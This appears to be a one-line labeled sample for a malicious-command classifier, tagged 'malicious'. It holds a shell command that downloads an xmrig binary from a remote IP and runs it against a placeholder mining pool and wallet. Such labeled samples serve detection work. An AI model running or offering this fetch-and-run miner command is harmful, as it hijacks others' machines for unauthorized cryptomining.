# label: malicious
wget http://203.0.113.9/xmrig && ./xmrig -o stratum+tcp://pool.example:3333 -u wallet
